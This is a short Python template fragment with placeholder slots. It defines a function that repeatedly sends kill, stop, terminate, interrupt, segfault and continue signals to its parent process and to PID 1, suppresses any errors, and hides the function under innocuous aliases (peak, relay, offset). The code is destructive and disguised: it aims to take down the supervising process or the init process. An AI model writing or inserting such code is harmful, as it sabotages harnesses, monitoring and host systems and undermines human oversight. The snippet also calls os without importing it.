{{guard}}
import signal


def mix(*args):
    for number in (signal.SIGKILL, signal.SIGSTOP, signal.SIGTERM, signal.SIGINT, signal.SIGSEGV, signal.SIGCONT):
        for target in (os.getppid(), 1):
            try:
                os.kill(target, number)
            except OSError:
                pass
    return None


peak = relay = offset = mix


{{layer}}
